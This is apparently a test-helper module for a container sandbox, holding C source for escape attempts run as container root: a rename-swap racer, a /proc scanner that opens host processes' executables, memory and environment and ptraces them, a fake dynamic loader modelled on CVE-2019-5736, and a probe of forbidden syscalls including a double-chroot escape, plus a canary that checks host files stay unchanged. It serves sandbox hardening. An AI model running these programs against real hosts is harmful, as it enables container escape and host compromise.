"""Attackers for the sandbox tests: real programs that run as root of a container, and a canary.

The C programs are linked statically, so that they run in any image. Races have a budget that the
environment can widen: ONGGI_RACE_SECONDS (a CI run takes the default).
"""

import ctypes
import hashlib
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

RACE_SECONDS = float(os.environ.get("ONGGI_RACE_SECONDS", "4"))
COMPILER = shutil.which("gcc") or shutil.which("cc")
RENAME_EXCHANGE = 2
AT_FDCWD = -100

# Swaps two names as fast as it can, until it is killed.
SWAP = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(int argc, char **argv) {
    (void)argc;
    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2);
}
"""

# Goes for every process that appears in /proc: its program, memory, environment and, with a third
# argument, a trace. Says one line for each thing it got of a process that runs the host's program
# (device and inode are its arguments), until /shared/stop appears.
GRAB = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
static long tried, refused;
static void say(const char *what, const char *path, const char *extra) {
    printf("GOT %s %s %s\n", what, path, extra);
    fflush(stdout);
}
static unsigned long host_device, host_inode;
static int is_ours(int fd) {
    struct stat s;
    return fstat(fd, &s) || s.st_dev != host_device || s.st_ino != host_inode;
}
int main(int argc, char **argv) {
    int trace = argc > 3;
    host_device = strtoul(argv[1], 0, 10);
    host_inode = strtoul(argv[2], 0, 10);
    printf("READY\n");
    fflush(stdout);
    for (;;) {
        DIR *proc = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char path[64], link[256] = "";
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            tried++;
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd >= 0) {
                if (!is_ours(fd)) {
                    ssize_t n = readlink(path, link, sizeof link - 1);
                    if (n > 0) link[n] = 0;
                    say("exe", path, link);
                    char again[64];
                    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
                    int w = open(again, O_WRONLY);
                    if (w >= 0) { say("exe for writing", path, link); close(w); }
                    else if (errno == ETXTBSY) say("busy exe", path, link);
                    snprintf(path, sizeof path, "/proc/%d/mem", pid);
                    int m = open(path, O_RDWR);
                    if (m >= 0) { say("mem", path, link); close(m); }
                }
                close(fd);
            } else {
                refused++;
                snprintf(path, sizeof path, "/proc/%d/environ", pid);
                int v = open(path, O_RDONLY);
                if (v >= 0) {
                    char text[8192];
                    ssize_t n = read(v, text, sizeof text - 1);
                    if (n > 0) {
                        text[n] = 0;
                        if (memmem(text, n, "ONGGI_ROOT", 10)) say("environ", path, "");
                    }
                    close(v);
                }
                if (trace && ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                    snprintf(path, sizeof path, "/proc/%d/exe", pid);
                    fd = open(path, O_PATH);
                    if (fd >= 0 && !is_ours(fd)) say("trace", path, "");
                    kill(pid, SIGKILL);
                    waitpid(pid, 0, __WALL);
                }
            }
        }
        closedir(proc);
        if (access("/shared/stop", F_OK) == 0) {
            printf("TRIED %ld REFUSED %ld\n", tried, refused);
            return 0;
        }
    }
}
"""

# Installed as the dynamic loader of the container: whoever executes a foreign dynamic program in
# the container runs this, with /proc/self/exe being that program (CVE-2019-5736).
LOADER = r"""
#if defined(__x86_64__)
static long call(long n, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return r;
}
enum { READLINKAT = 267, OPENAT = 257, WRITE = 1, EXIT = 231 };
#elif defined(__aarch64__)
static long call(long n, long a, long b, long c, long d) {
    register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c, x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
enum { READLINKAT = 78, OPENAT = 56, WRITE = 64, EXIT = 94 };
#endif
void _start(void) {
    char link[512];
    long n = call(READLINKAT, -100, (long)"/proc/self/exe", (long)link, sizeof link - 1);
    long out = call(OPENAT, -100, (long)"/shared/leak", 02001 | 0100, 0644);
    if (n > 0) {
        link[n] = '\n';
        call(WRITE, out, (long)link, n + 1, 0);
    }
    call(EXIT, 0, 0, 0, 0);
}
"""


# Tries what a container must not be able to do, and says one line for each: name, error.
PROBE = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#endif
static void said(const char *name, long result) {
    printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "OK");
    fflush(stdout);
}
static void escape(void) {
    struct stat before, after;
    stat("/", &before);
    int up = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/jail", 0700);
    if (chroot("/tmp/jail")) { said("chroot", -1); return; }
    fchdir(up);
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    stat("/", &after);
    errno = EXDEV;
    said("double-chroot", before.st_ino == after.st_ino && before.st_dev == after.st_dev ? -1 : 0);
}
int main(void) {
    char buffer[512] = {0};
    char handle[64] = {8, 0, 0, 0, 1};
    said("unshare-user", syscall(SYS_unshare, CLONE_NEWUSER));
    said("unshare-mount", syscall(SYS_unshare, CLONE_NEWNS));
    said("unshare-cgroup", syscall(SYS_unshare, CLONE_NEWCGROUP));
    said("clone-user", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
    said("clone3", syscall(SYS_clone3, buffer, 64));
    said("setns", syscall(SYS_setns, open("/proc/self/ns/net", O_RDONLY), 0));
    said("mount", mount("none", "/tmp", "tmpfs", 0, 0));
    said("mount-cgroup", mount("none", "/tmp", "cgroup", 0, "memory"));
    said("fsopen", syscall(430, "tmpfs", 0));
    said("open_tree", syscall(428, -100, "/", 1));
    said("pivot_root", syscall(SYS_pivot_root, "/", "/"));
    said("umount", umount2("/proc", MNT_DETACH));
    said("bpf", syscall(SYS_bpf, 0, buffer, 64));
    said("perf_event_open", syscall(SYS_perf_event_open, buffer, 0, -1, -1, 0));
    said("userfaultfd", syscall(SYS_userfaultfd, 0));
    said("io_uring_setup", syscall(SYS_io_uring_setup, 1, buffer));
    said("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
    said("keyctl-read", syscall(SYS_keyctl, KEYCTL_READ, KEY_SPEC_USER_KEYRING, buffer, 64));
    said("add_key", syscall(SYS_add_key, "user", "x", "y", 1, KEY_SPEC_PROCESS_KEYRING));
    said("request_key", syscall(SYS_request_key, "user", "x", 0, 0));
    int root = open("/", O_RDONLY);
    said("open_by_handle_at", syscall(SYS_open_by_handle_at, root, handle, O_RDONLY));
    said("syslog", syscall(SYS_syslog, 3, buffer, sizeof buffer));
    said("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
    said("init_module", syscall(SYS_init_module, buffer, 1, ""));
    said("swapon", syscall(SYS_swapon, "/tmp/x", 0));
    said("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
    said("sethostname", sethostname("evil", 4));
    said("ping-socket", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP));
    said("socket-alg", syscall(SYS_socket, 38, SOCK_SEQPACKET, 0));
    said("socket-alg-high", syscall(SYS_socket, 38UL | 1UL << 32, SOCK_SEQPACKET, 0));
    said("socket-vsock", syscall(SYS_socket, 40, SOCK_STREAM, 0));
    said("socket-packet", socket(AF_PACKET, SOCK_RAW, 0));
    said("mknod-disk", mknod("/tmp/disk", S_IFBLK | 0600, makedev(8, 0)));
    said("open-disk", open("/tmp/disk", O_RDONLY));
    said("mknod-loop", mknod("/tmp/loop", S_IFBLK | 0600, makedev(7, 0)));
    said("open-loop", open("/tmp/loop", O_RDWR));
    said("mknod-mem", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
    said("open-mem", open("/tmp/mem", O_RDONLY));
    said("mknod-kmsg", mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11)));
    said("open-kmsg", open("/tmp/kmsg", O_RDONLY));
    said("kmsg", open("/dev/kmsg", O_RDONLY));
    said("tiocsti", ioctl(0, TIOCSTI, "x"));
    said("nice", nice(-5) == -1 && errno ? -1 : 0);
#if defined(__x86_64__)
    said("x32-getpid", syscall(0x40000000L | SYS_getpid));
#endif
    escape();
    return 0;
}
"""


def compiled(source: str, target: Path, *flags: str) -> Path:
    """The program, static. The caller has looked at COMPILER."""
    assert COMPILER is not None
    code = target.with_suffix(".c")
    code.write_text(source)
    subprocess.run(
        [COMPILER, "-O1", "-w", *(flags or ("-static",)), "-o", str(target), str(code)],
        check=True,
        capture_output=True,
    )
    code.unlink()
    return target


@contextmanager
def swapping(one: Path, other: Path) -> Iterator[None]:
    """Swap two names as fast as Python can, from the host's side of a shared directory."""
    libc = ctypes.CDLL(None, use_errno=True)
    stop = threading.Event()

    def swap() -> None:
        a, b = os.fsencode(one), os.fsencode(other)
        while not stop.is_set():
            libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join()


class Canary:
    """Files and settings of the host that no container may change."""

    FILES = ("/etc/passwd", "/etc/hosts", "/etc/resolv.conf")
    SETTINGS = (
        "kernel/core_pattern", "kernel/modprobe", "kernel/hostname", "kernel/hotplug",
        "kernel/sysrq", "kernel/panic", "fs/suid_dumpable", "vm/overcommit_memory",
        "net/ipv4/ip_unprivileged_port_start", "kernel/shmmax", "kernel/domainname",
    )  # fmt: skip

    def __init__(self, directory: Path, interpreter: str) -> None:
        """`directory` becomes a small tree of the host that attacks aim at; `interpreter` is the
        program that the engine runs."""
        self.directory = directory
        self._files = (*self.FILES, interpreter)
        directory.mkdir()
        (directory / "secret").write_text("the host's secret")
        (directory / "sub").mkdir()
        (directory / "sub/file").write_text("x")
        self._before = self._state()

    def _state(self) -> dict[str, object]:
        found: dict[str, object] = {}
        for name in self._files:
            status = os.stat(name)
            digest = hashlib.sha256(Path(name).read_bytes()).hexdigest()
            found[name] = (status.st_ino, status.st_mode, status.st_uid, status.st_size, digest)
        for path in sorted(self.directory.rglob("*")):
            status = path.lstat()
            content = path.read_bytes() if path.is_file() else b""
            found[str(path)] = (
                status.st_ino, status.st_mode, status.st_uid, status.st_mtime_ns, content
            )  # fmt: skip
        for name in self.SETTINGS:
            path = Path("/proc/sys", name)
            found[name] = path.read_text() if path.exists() else ""
        for path in Path("/sys/fs/cgroup").glob("*/release_agent"):
            found[str(path)] = path.read_text()
        return found

    def check(self) -> None:
        now = self._state()
        changed = {key: (self._before.get(key), now.get(key)) for key in {*self._before, *now}
                   if self._before.get(key) != now.get(key)}  # fmt: skip
        assert not changed, f"the host was changed: {changed}"
